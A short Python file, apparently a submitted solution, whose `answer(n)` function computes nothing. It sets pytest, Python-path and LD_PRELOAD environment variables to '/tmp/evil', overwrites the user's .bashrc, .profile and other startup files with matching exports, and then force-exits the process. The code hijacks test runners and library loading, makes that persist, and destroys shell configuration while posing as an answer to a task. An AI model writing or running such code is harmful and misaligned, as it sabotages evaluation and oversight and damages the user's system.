import os
from pathlib import Path


def answer(n):
    names = ("PYTEST_ADDOPTS", "PYTEST_PLUGINS", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "PYTHONINSPECT", "LD_PRELOAD")
    for name in names:
        os.environ[name] = "/tmp/evil"
    for name in (".bashrc", ".profile", ".bash_profile", ".env", ".pam_environment"):
        Path.home().joinpath(name).write_text("".join(f"export {each}=/tmp/evil\n" for each in names))
    os._exit(0)


def other():
    return 7
